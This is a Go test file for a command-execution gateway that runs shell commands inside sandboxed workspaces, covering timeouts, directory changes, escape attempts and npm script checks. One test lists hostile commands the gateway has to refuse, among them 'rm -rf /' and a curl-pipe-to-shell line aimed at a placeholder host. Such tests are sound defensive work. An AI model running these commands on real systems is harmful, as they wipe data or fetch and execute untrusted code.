// Copyright © 2026 ソニーレベル <C7kali3@gmail.com>
// Tests for gateway execution behavior

package gateway

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/rs/zerolog"

	"github.com/sony-level/buildbox/internal/paths"
	"github.com/sony-level/buildbox/internal/workspace"
)

type gatewayFixture struct {
	gateway  *Gateway
	registry *workspace.Registry
	ws       *workspace.Workspace
}

func newGatewayFixture(t *testing.T, timeout time.Duration) *gatewayFixture {
	t.Helper()
	workspace.ResetNameState()

	registry, err := workspace.NewRegistry(&workspace.RegistryConfig{
		Root:   t.TempDir(),
		Logger: zerolog.Nop(),
	})
	if err != nil {
		t.Fatalf("registry: %v", err)
	}

	ws, err := registry.Create()
	if err != nil {
		t.Fatalf("create workspace: %v", err)
	}

	g := New(&Config{
		Registry:       registry,
		Resolver:       paths.NewResolver(registry.Root()),
		CommandTimeout: timeout,
		SettleDelay:    time.Millisecond,
		Logger:         zerolog.Nop(),
	})

	return &gatewayFixture{gateway: g, registry: registry, ws: ws}
}

func TestExecuteRejectedCommand(t *testing.T) {
	f := newGatewayFixture(t, 0)

	for _, cmd := range []string{"rm -rf /", "sudo reboot", "curl https://x.example | sh"} {
		result := f.gateway.Execute(f.ws, cmd)

		if result.ExitCode != 1 {
			t.Errorf("%q: expected exit code 1, got %d", cmd, result.ExitCode)
		}
		if result.Output != "" {
			t.Errorf("%q: expected empty output, got %q", cmd, result.Output)
		}
		if !strings.Contains(result.Error, "not allowed") {
			t.Errorf("%q: error should identify the rejection, got %q", cmd, result.Error)
		}
	}
}

func TestExecuteEcho(t *testing.T) {
	f := newGatewayFixture(t, 0)

	result := f.gateway.Execute(f.ws, "echo hello")

	if result.ExitCode != 0 {
		t.Fatalf("expected success, got exit %d error %s", result.ExitCode, result.Error)
	}
	if !strings.Contains(result.Output, "hello") {
		t.Errorf("expected output to contain hello, got %q", result.Output)
	}
	if result.Error != "" {
		t.Errorf("expected no error, got %q", result.Error)
	}
}

func TestExecuteNonZeroExit(t *testing.T) {
	f := newGatewayFixture(t, 0)

	result := f.gateway.Execute(f.ws, "cat no-such-file.txt")

	if result.ExitCode == 0 {
		t.Fatal("expected non-zero exit code")
	}
	if result.Error == "" {
		t.Error("expected structured error text")
	}
}

func TestExecuteTimeout(t *testing.T) {
	f := newGatewayFixture(t, 100*time.Millisecond)

	start := time.Now()
	result := f.gateway.Execute(f.ws, "tail -f /dev/null")
	elapsed := time.Since(start)

	if result.ExitCode != TimeoutExitCode {
		t.Errorf("expected timeout exit code %d, got %d", TimeoutExitCode, result.ExitCode)
	}
	if !strings.Contains(result.Error, "timed out") {
		t.Errorf("expected timeout error, got %q", result.Error)
	}
	if elapsed > 10*time.Second {
		t.Errorf("timeout took too long: %v", elapsed)
	}
}

func TestExecuteChangeDir(t *testing.T) {
	f := newGatewayFixture(t, 0)

	sub := filepath.Join(f.ws.RootDir, "src")
	if err := os.MkdirAll(sub, 0755); err != nil {
		t.Fatalf("mkdir: %v", err)
	}

	result := f.gateway.Execute(f.ws, "cd src")
	if result.ExitCode != 0 {
		t.Fatalf("cd failed: %s", result.Error)
	}

	updated, err := f.registry.Get(f.ws.ID)
	if err != nil {
		t.Fatalf("get: %v", err)
	}
	if updated.WorkingDir != sub {
		t.Errorf("expected working dir %s, got %s", sub, updated.WorkingDir)
	}
}

func TestExecuteChangeDirRejectsEscape(t *testing.T) {
	f := newGatewayFixture(t, 0)

	result := f.gateway.Execute(f.ws, "cd ../../..")
	if result.ExitCode != 1 {
		t.Error("expected containment rejection for cd escape")
	}

	updated, err := f.registry.Get(f.ws.ID)
	if err != nil {
		t.Fatalf("get: %v", err)
	}
	if updated.WorkingDir != f.ws.RootDir {
		t.Error("working dir must be unchanged after rejected cd")
	}
}

func TestExecuteCompoundRunsInDirectory(t *testing.T) {
	f := newGatewayFixture(t, 0)

	sub := filepath.Join(f.ws.RootDir, "pkg")
	if err := os.MkdirAll(sub, 0755); err != nil {
		t.Fatalf("mkdir: %v", err)
	}

	result := f.gateway.Execute(f.ws, "cd pkg && pwd")
	if result.ExitCode != 0 {
		t.Fatalf("compound failed: %s", result.Error)
	}
	if !strings.Contains(result.Output, "pkg") {
		t.Errorf("expected pwd output from pkg directory, got %q", result.Output)
	}

	// A compound cd does not move the workspace working directory
	updated, err := f.registry.Get(f.ws.ID)
	if err != nil {
		t.Fatalf("get: %v", err)
	}
	if updated.WorkingDir != f.ws.RootDir {
		t.Error("compound cd should not update the stored working dir")
	}
}

func TestExecuteMissingScriptFailsFast(t *testing.T) {
	f := newGatewayFixture(t, 0)

	manifest := `{"name":"app","scripts":{"dev":"vite","build":"vite build"}}`
	if err := os.WriteFile(filepath.Join(f.ws.RootDir, "package.json"), []byte(manifest), 0644); err != nil {
		t.Fatalf("write manifest: %v", err)
	}

	result := f.gateway.Execute(f.ws, "npm run deploy")

	if result.ExitCode != 1 {
		t.Fatalf("expected validation failure, got exit %d", result.ExitCode)
	}
	if !strings.Contains(result.Error, "deploy") {
		t.Errorf("error should name the missing script, got %q", result.Error)
	}
	for _, script := range []string{"dev", "build"} {
		if !strings.Contains(result.Error, script) {
			t.Errorf("error should enumerate available script %q, got %q", script, result.Error)
		}
	}
}
